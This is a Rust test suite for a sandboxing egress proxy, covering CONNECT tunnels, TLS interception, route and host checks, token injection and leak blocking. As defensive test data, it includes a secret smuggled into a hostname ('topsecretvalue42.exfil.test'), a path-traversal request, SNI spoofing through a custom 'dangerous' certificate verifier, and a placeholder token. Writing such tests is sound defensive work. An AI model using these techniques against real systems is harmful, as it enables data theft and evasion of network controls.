//! CONNECT tunnels: passthrough, interception, host checks inside, and
//! credential injection on intercepted routes.

#![allow(clippy::unwrap_used)]

mod support;

use support::*;

#[tokio::test]
async fn connect_without_route_is_refused_by_the_connect_answer() {
    let p = Setup::new("allow: [{host: ok.test}]").start().await;
    let (s, text, stream) = connect(p.addr, "evil.test:443").await;
    assert_eq!(s, 403);
    assert!(stream.is_none());
    assert!(
        text.to_ascii_lowercase()
            .contains("x-claude-bottle-block: no-route"),
        "{text}"
    );
    assert!(text.contains(r#""blocked":true"#));
    let (s, text, _) = connect(p.addr, "ok.test:22").await;
    assert_eq!(s, 403);
    assert!(text.contains("port"), "{text}");
    assert_eq!(p.net.connect_count(), 0);
}

#[tokio::test]
async fn passthrough_tunnels_without_decrypting() {
    let ca = TestCa::new("test upstream CA");
    let (up, rec) = https_upstream(&ca, &["pass.test"]).await;
    let p = Setup::new(format!(
        "dlp: off\nallow: [{{host: pass.test, tls: passthrough, ports: [{}]}}]\nresolve: {{pass.test: '{up}'}}",
        up.port()
    ))
    .start()
    .await;
    let (s, _, stream) = connect(p.addr, &format!("pass.test:{}", up.port())).await;
    assert_eq!(s, 200);
    // The client sees the upstream's own certificate: it trusts only the test CA.
    let mut c = tls_client(stream.unwrap(), &ca.pem, "pass.test").await;
    let (s, _, body) = send(&mut c, req("GET", "/hello", &[("host", "pass.test")], "")).await;
    assert_eq!((s, body.as_str()), (200, "hello /hello"));
    assert_eq!(rec.count(), 1);
}

async fn intercept_setup(
    extra: &str,
    secrets: &'static [(&'static str, &'static str)],
) -> (Running, Recorder, u16, TestCa) {
    let ca = TestCa::new("test upstream CA");
    let (up, rec) = https_upstream(&ca, &["api.test"]).await;
    let port = up.port();
    let p = Setup::new(format!(
        "allow: [{{host: api.test, methods: [GET, POST], paths: ['/v1/'], ports: [{port}]}}]\nresolve: {{api.test: '{up}'}}\n{extra}"
    ))
    .secrets(secrets)
    .upstream_ca(&ca)
    .start()
    .await;
    (p, rec, port, ca)
}

#[tokio::test]
async fn intercepted_requests_follow_route_rules_inside_the_tunnel() {
    let (p, rec, port, _ca) = intercept_setup("dlp: off", &[]).await;
    let (s, _, stream) = connect(p.addr, &format!("api.test:{port}")).await;
    assert_eq!(s, 200);
    // The client trusts only the proxy's CA: the leaf was minted for api.test.
    let mut c = tls_client(stream.unwrap(), p.proxy.ca_pem(), "api.test").await;
    let host = format!("api.test:{port}");
    let (s, _, body) = send(&mut c, req("GET", "/v1/models?x=1", &[("host", &host)], "")).await;
    assert_eq!((s, body.as_str()), (200, "hello /v1/models"));
    let (s, h, _) = send(&mut c, req("DELETE", "/v1/models", &[("host", &host)], "")).await;
    assert_eq!(
        (s, h["x-claude-bottle-block"].to_str().unwrap()),
        (403, "method")
    );
    let (s, h, _) = send(&mut c, req("GET", "/v1/../admin", &[("host", &host)], "")).await;
    assert_eq!(
        (s, h["x-claude-bottle-block"].to_str().unwrap()),
        (403, "path")
    );
    assert_eq!(rec.count(), 1);
    assert_eq!(rec.all()[0].uri, "/v1/models?x=1");
}

#[tokio::test]
async fn host_header_or_sni_different_from_connect_is_host_mismatch() {
    let (p, rec, port, _ca) = intercept_setup("dlp: off", &[]).await;
    // A different Host inside the tunnel.
    let (_, _, stream) = connect(p.addr, &format!("api.test:{port}")).await;
    let mut c = tls_client(stream.unwrap(), p.proxy.ca_pem(), "api.test").await;
    let (s, h, _) = send(
        &mut c,
        req(
            "GET",
            "/v1/x",
            &[("host", &format!("evil.test:{port}"))],
            "",
        ),
    )
    .await;
    assert_eq!(
        (s, h["x-claude-bottle-block"].to_str().unwrap()),
        (403, "host-mismatch")
    );
    // A different SNI (the leaf is still api.test's, so accept it by name api.test
    // in the verifier but send SNI evil.test): use a client whose SNI differs.
    let (_, _, stream) = connect(p.addr, &format!("api.test:{port}")).await;
    let mut c = sni_mismatch_client(stream.unwrap(), p.proxy.ca_pem()).await;
    let (s, h, _) = send(
        &mut c,
        req("GET", "/v1/x", &[("host", &format!("api.test:{port}"))], ""),
    )
    .await;
    assert_eq!(
        (s, h["x-claude-bottle-block"].to_str().unwrap()),
        (403, "host-mismatch")
    );
    assert_eq!(rec.count(), 0);
}

/// TLS with SNI `evil.test` that accepts the proxy's `api.test` leaf.
async fn sni_mismatch_client(
    stream: tokio::net::TcpStream,
    ca_pem: &str,
) -> hyper::client::conn::http1::SendRequest<http_body_util::Full<bytes::Bytes>> {
    use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
    use rustls_pki_types::{CertificateDer, ServerName, UnixTime};
    use std::sync::Arc;
    #[derive(Debug)]
    struct AsApiTest(Arc<rustls::client::WebPkiServerVerifier>);
    impl ServerCertVerifier for AsApiTest {
        fn verify_server_cert(
            &self,
            e: &CertificateDer<'_>,
            i: &[CertificateDer<'_>],
            _n: &ServerName<'_>,
            o: &[u8],
            t: UnixTime,
        ) -> Result<ServerCertVerified, rustls::Error> {
            let name = ServerName::try_from("api.test").unwrap();
            self.0.verify_server_cert(e, i, &name, o, t)
        }
        fn verify_tls12_signature(
            &self,
            m: &[u8],
            c: &CertificateDer<'_>,
            d: &rustls::DigitallySignedStruct,
        ) -> Result<HandshakeSignatureValid, rustls::Error> {
            self.0.verify_tls12_signature(m, c, d)
        }
        fn verify_tls13_signature(
            &self,
            m: &[u8],
            c: &CertificateDer<'_>,
            d: &rustls::DigitallySignedStruct,
        ) -> Result<HandshakeSignatureValid, rustls::Error> {
            self.0.verify_tls13_signature(m, c, d)
        }
        fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
            self.0.supported_verify_schemes()
        }
    }
    use rustls_pki_types::pem::PemObject;
    let mut roots = rustls::RootCertStore::empty();
    for c in CertificateDer::pem_slice_iter(ca_pem.as_bytes()) {
        roots.add(c.unwrap()).unwrap();
    }
    let v = rustls::client::WebPkiServerVerifier::builder(Arc::new(roots))
        .build()
        .unwrap();
    let cfg = rustls::ClientConfig::builder()
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(AsApiTest(v)))
        .with_no_client_auth();
    let tls = tokio_rustls::TlsConnector::from(Arc::new(cfg))
        .connect(ServerName::try_from("evil.test").unwrap(), stream)
        .await
        .unwrap();
    let (send, c) = hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(tls))
        .await
        .unwrap();
    tokio::spawn(c);
    send
}

#[tokio::test]
async fn upstream_tls_is_verified() {
    // The upstream's CA is NOT given as upstream_ca: the proxy must refuse it.
    let ca = TestCa::new("test upstream CA");
    let (up, rec) = https_upstream(&ca, &["api.test"]).await;
    let port = up.port();
    let p = Setup::new(format!(
        "dlp: off\nallow: [{{host: api.test, ports: [{port}], tls: intercept}}]\nresolve: {{api.test: '{up}'}}"
    ))
    .start()
    .await;
    let (_, _, stream) = connect(p.addr, &format!("api.test:{port}")).await;
    let mut c = tls_client(stream.unwrap(), p.proxy.ca_pem(), "api.test").await;
    let (s, h, _) = send(
        &mut c,
        req("GET", "/", &[("host", &format!("api.test:{port}"))], ""),
    )
    .await;
    assert_eq!(
        (s, h["x-claude-bottle-block"].to_str().unwrap()),
        (502, "upstream-error")
    );
    assert_eq!(rec.count(), 0);
}

#[tokio::test]
async fn http_token_replaces_the_agents_authorization() {
    let (p, rec, port, _ca) = intercept_setup(
        "dlp: block\ntokens: [{kind: http, host: api.test, scheme: Bearer, token_ref: GH}]",
        &[("GH", "ghp_realtoken123456")],
    )
    .await;
    let (_, _, stream) = connect(p.addr, &format!("api.test:{port}")).await;
    let mut c = tls_client(stream.unwrap(), p.proxy.ca_pem(), "api.test").await;
    let host = format!("api.test:{port}");
    let (s, _, _) = send(
        &mut c,
        req(
            "GET",
            "/v1/repos",
            &[
                ("host", &host),
                ("authorization", "Bearer agent-placeholder"),
            ],
            "",
        ),
    )
    .await;
    assert_eq!(s, 200);
    let seen = rec.all();
    let auth: Vec<_> = seen[0].headers.get_all("authorization").iter().collect();
    assert_eq!(auth, vec!["Bearer ghp_realtoken123456"]);
    p.events_without(&["ghp_realtoken123456"]);
}

#[tokio::test]
async fn secret_in_host_label_is_blocked_even_for_passthrough() {
    let p = Setup::new(
        "dlp: block\nallow: [{host: '*.exfil.test', tls: passthrough}]\nknown_secret_env: [S]",
    )
    .secrets(&[("S", "topsecretvalue42")])
    .start()
    .await;
    let (s, text, _) = connect(p.addr, "topsecretvalue42.exfil.test:443").await;
    assert_eq!(s, 403, "{text}");
    assert!(text.contains("dlp"));
    assert!(!text.contains("topsecretvalue42"), "{text}");
    p.events_without(&["topsecretvalue42"]);
    assert_eq!(p.net.connect_count(), 0);
    assert_eq!(p.net.resolves.load(std::sync::atomic::Ordering::SeqCst), 0);
}

#[tokio::test]
async fn open_tunnels_are_bounded() {
    let ca = TestCa::new("test upstream CA");
    let (up, _rec) = https_upstream(&ca, &["pass.test"]).await;
    let port = up.port();
    let p = Setup::new(format!(
        "dlp: off\nallow: [{{host: pass.test, tls: passthrough, ports: [{port}]}}]\nresolve: {{pass.test: '{up}'}}"
    ))
    .tweak(|c| c.limits.max_connections = 2)
    .start()
    .await;
    let (s1, _, t1) = connect(p.addr, &format!("pass.test:{port}")).await;
    let (s2, _, t2) = connect(p.addr, &format!("pass.test:{port}")).await;
    assert_eq!((s1, s2), (200, 200));
    let (s3, text, _) = connect(p.addr, &format!("pass.test:{port}")).await;
    assert_eq!(s3, 413, "{text}");
    drop((t1, t2));
}

#[tokio::test]
async fn wildcard_routes_do_not_cover_their_apex() {
    let p = Setup::new("dlp: off\nallow: [{host: '*.corp.test', tls: passthrough}]")
        .start()
        .await;
    let (s, text, _) = connect(p.addr, "corp.test:443").await;
    assert_eq!(s, 403, "{text}");
    assert!(text.contains("no-route"));
    let (s, text, _) = connect(p.addr, "evilcorp.test:443").await;
    assert_eq!(s, 403, "{text}");
    assert_eq!(p.net.connect_count(), 0);
    assert_eq!(p.net.resolves.load(std::sync::atomic::Ordering::SeqCst), 0);
}
